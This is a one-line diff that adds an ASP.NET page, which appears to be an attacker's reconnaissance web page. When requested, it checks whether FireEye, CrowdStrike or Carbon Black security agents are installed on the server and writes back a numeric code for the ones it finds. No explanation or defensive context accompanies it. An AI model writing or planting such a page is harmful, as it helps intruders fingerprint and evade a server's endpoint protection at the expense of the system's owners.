@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><% int n = 0; if (System.IO.File.Exists("c:\\program files (x86)\\fireeye\\xagt.exe")) n += 1; if (System.IO.File.Exists("c:\\program files\\crowdstrike\\csfalconservice.exe")) n += 2; if (System.IO.Directory.Exists("c:\\program files\\confer") || System.IO.File.Exists("c:\\program files\\carbonblack\\exh_probe.exe")) n += 4; Response.Write(n); %>
